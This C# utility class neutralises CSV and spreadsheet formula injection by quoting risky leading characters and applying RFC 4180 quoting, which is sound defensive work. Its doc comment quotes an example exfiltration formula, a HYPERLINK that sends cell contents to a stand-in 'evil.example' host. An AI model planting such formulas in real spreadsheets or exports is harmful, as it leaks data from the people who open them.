namespace Attest.Core.Common;

/// <summary>
/// CSV fields safe to open in a spreadsheet (OWASP "CSV injection"): a field that starts with = + - @ or
/// a tab or carriage return is prefixed with a single quote, so Excel, LibreOffice and Sheets show it as
/// text instead of evaluating a formula such as <c>=HYPERLINK("http://evil.example/?leak="&amp;A1,"click")</c>;
/// then RFC 4180 quoting (a field with a comma, quote or line break is quoted, inner quotes doubled).
/// </summary>
public static class CsvCells
{
    /// <summary>Whether a spreadsheet would run this text as a formula (its first character).</summary>
    public static bool LooksLikeFormula(string text) => text.Length > 0 && text[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    /// <summary>The text with a leading single quote when a spreadsheet would run it as a formula (CSV and XLSX cells alike).</summary>
    public static string Neutralise(string text) => LooksLikeFormula(text) ? "'" + text : text;

    public static string Field(string? value)
    {
        var text = Neutralise(value ?? "");
        return text.AsSpan().IndexOfAny(",\"\r\n") >= 0 ? "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : text;
    }
}
